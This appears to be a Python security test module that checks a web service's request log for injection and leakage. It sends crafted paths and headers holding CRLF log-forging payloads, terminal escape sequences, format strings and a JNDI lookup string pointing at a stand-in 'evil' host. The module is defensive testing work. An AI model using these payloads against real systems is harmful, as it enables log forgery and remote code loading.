"""L1, L2, L7: one line for each request, whatever was sent, and nothing private in it."""

import json
import re
from collections.abc import Callable, Iterator

from tests.attack.asking import settled, tell
from tests.attack.model import Check, Entry, Proven
from tests.attack.play import Play, play
from tests.attack.stage import ADMIN_TOKEN, APP_SECRET, Stage

_FORGED_LINE = b'{"time":"now","status":200,"path":"/forged-line"}'
_PATHS: tuple[tuple[str, bytes], ...] = (
    ("CR LF encoded", b"/%0d%0a" + _FORGED_LINE.replace(b" ", b"")),
    ("LF encoded", b"/%0aforged-line"),
    ("CR LF", b"/x\r\nforged-line: 1"),
    ("LF", b"/x\nforged-line"),
    ("CR", b"/x\rforged-line"),
    ("NUL", b"/x\0forged-line"),
    ("an ANSI colour", b"/x\x1b[31mred"),
    ("an ANSI colour encoded", b"/x%1b%5b31mred"),
    ("an OSC title", b"/x\x1b]0;title\x07"),
    ("a C1 control", b"/x\x9b31m"),
    ("invalid UTF-8", b"/x\xff\xfe\xc0\xaf"),
    ("a line separator", "/x\u2028forged-line".encode()),
    ("a text of right to left", "/x\u202egol".encode()),
    ("half a surrogate", b"/x\xed\xa0\x80"),
    ("quotes and braces", b'/x","status":200,"y":"'),
    ("a backslash at its end", b"/x\\"),
    ("a backslash and n", b"/x\\nforged-line"),
    ("8 kB", b"/" + b"x" * 8000),
    ("8 kB of quotes", b"/" + b'"' * 8000),
    ("1 MB", b"/" + b"x" * 1_000_000),
    ("a format", b"/%s%n%(levelname)s{0}{path}"),
    ("a query of CR LF", b"/x?a=\r\nforged-line: 1"),
    ("a query of CR LF, encoded", b"/x?a=%0d%0aforged-line"),
    ("a query of LF", b"/x?a=\nforged-line"),
    ("a query of ANSI", b"/x?\x1b[2Jforged-line"),
    ("a query of invalid UTF-8", b"/x?\xff\xfeforged-line"),
    ("a query of 8 kB", b"/x?" + b"q" * 8000),
    ("a query of 1 MB", b"/x?" + b"q" * 1_000_000),
    ("a lookup", b"/${jndi:ldap://evil/a}"),
)
_HEADERS: tuple[tuple[str, bytes], ...] = (
    ("User-Agent with ANSI", b"User-Agent: \x1b[2Jforged-line"),
    ("User-Agent invalid UTF-8", b"User-Agent: \xff\xfe forged-line"),
    ("a header of CR LF, encoded", b"X: %0d%0aforged-line"),
    ("a header of CR LF", b"X: a\r\nforged-line"),
    ("a header of LF", b"User-Agent: a\nforged-line"),
    ("a User-Agent of 8 kB", b"User-Agent: " + b"u" * 8000),
    ("a User-Agent of 1 MB", b"User-Agent: " + b"u" * 1_000_000),
    ("a name of 1 MB", b"n" * 1_000_000 + b": forged-line"),
    ("Referer", b"Referer: http://evil/\tforged-line"),
    ("X-Request-Id", b"X-Request-Id: forged-line"),
    ("X-Request-Id with a quote", b'X-Request-Id: a","status":200,"b":"'),
    ("X-Forwarded-For", b'X-Forwarded-For: forged-line", "status": 200'),
    ("Host", b"X-Forwarded-Host: forged-line"),
)
_STREAMS = ("usual", "text-log")


def _sent(title: str, stage: Stage) -> bytes:
    for name, path in _PATHS:
        if name == title:
            return b"GET /public%b HTTP/1.1\r\nHost: %b\r\n\r\n" % (path, stage.host)
    line = dict(_HEADERS)[title]
    return b"GET /public/head HTTP/1.1\r\nHost: %b\r\n%b\r\n\r\n" % (stage.host, line)


def _one_line(title: str) -> Callable[[Stage], list[str]]:
    def run(stage: Stage) -> list[str]:
        before = len(settled(stage).splitlines())
        play(stage.aim, stage.services, Play([_sent(title, stage)], (b"GET",), 1, closes=False))
        said = settled(stage)
        # Beside it: play's own canary, and the mark of `settled`.
        new = said.splitlines()[before:]
        amiss = [f"{len(new)} lines, expected 2 or 3"] if len(new) not in (2, 3) else []
        if re.search("[^\n -~]", said):
            amiss.append("a line holds what is no printable ASCII")
        if any(each.startswith(("forged-line", '{"time":"now')) for each in new):
            amiss.append("a line is the attacker's")
        if any(len(each) > 4096 for each in new):
            amiss.append("a line is longer than a pipe takes at once")
        return amiss + (_not_json(stage, new) if stage.name == "usual" else [])

    return run


def _not_json(stage: Stage, lines: list[str]) -> list[str]:
    amiss = []
    for line in lines:
        document = json.loads(line)
        if "status" in document and not document["path"].startswith(("/public", "-", "/")):
            amiss.append("a path is none")
        if document.get("path") == "/forged-line":
            amiss.append("the path is the attacker's own line")
    return amiss


# -- L2, L7 ---------------------------------------------------------------------------------------


def _nothing_private(stage: Stage) -> list[str]:
    """A login, and its token in every place a client may put it."""
    given = stage.code(user="somebody-private")
    body = {"app": "shop-wechat", "code": given["code"]}
    key = "the-clients-own-idempotency-key"
    answer = tell(stage, "POST /login", body=body, headers={"Idempotency-Key": key})
    token = str(answer.document["token"])
    for line in (
        "GET /api/x",
        f"GET /api/x?token={token}",
        f"GET /api/x?gw_ticket={token}",
        f"GET /public/{token}/x",
        f"GET /public/x;{token}",
        f"GET /nowhere/{token}",
        f"GET /session?code={given['code']}",
        f"GET /login?code={given['code']}",
        f"GET /api/v1/registers/wechat_program/wxattackshop?code={given['code']}",
        "POST /session/renew",
        "POST /logout",
        "GET /api/x",
    ):
        tell(stage, line, token=token)
        tell(stage, line, headers={"X-Session-Token": token, "Cookie": f"s={token}"})
    said = settled(stage)
    private = {
        "the token": token,
        "the token's id": token.split(".")[1],
        "the token's signature": token.rpartition(".")[2],
        "the code": given["code"],
        "the openid": given["openid"],
        "the app secret": APP_SECRET,
        "the admin token": ADMIN_TOKEN,
        "the idempotency key": key,
    }
    return [f"the log holds {name}" for name, text in private.items() if text in said]


def _hashed(stage: Stage) -> list[str]:
    """L7: a subject in the log is a short hash, the same for the same user."""
    token, _ = stage.login(user="somebody-hashed")
    for mark in ("one", "two"):
        tell(stage, f"GET /api/hashed-{mark}", token=token)
    lines = [each for each in settled(stage).splitlines() if "/api/hashed-" in each]
    subjects = {json.loads(line)["subject"] for line in lines}
    is_good = len(lines) == 2 and len(subjects) == 1
    is_good = is_good and re.fullmatch("[A-Za-z0-9_-]{8,16}", str(*subjects)) is not None
    return [] if is_good else [f"the subjects are {len(subjects)} in {len(lines)} lines"]


def entries() -> Iterator[Entry]:
    """List these rows."""
    for stage in _STREAMS:
        for title, _ in (*_PATHS, *_HEADERS):
            yield Check(row="L1", title=f"{title}, {stage}", run=_one_line(title), stage=stage)
    yield Proven(
        row="L1",
        title="any visit is one line",
        tests=(
            "tests/test_observe.py::test_one_visit_is_one_line",
            "tests/test_observe.py::test_a_line_fits_into_one_write_on_a_pipe",
            "tests/test_observe.py::test_json_by_hand_is_json",
        ),
    )
    for stage in _STREAMS:
        title = f"a login and its token in every place, {stage}"
        yield Check(row="L2", title=title, run=_nothing_private, stage=stage)
    yield Proven(
        row="L2",
        title="known markers, faults injected everywhere, every output searched",
        tests=("tests/attack/test_leakage.py",),
    )
    yield Check(row="L7", title="subjects are hashed", run=_hashed)
    yield Proven(
        row="L7",
        title="nobody is named, in either format, nor in the audit log",
        tests=(
            "tests/test_observe.py::test_nobody_is_named",
            "tests/admin/test_api.py::test_each_call_is_one_line_of_audit",
        ),
    )
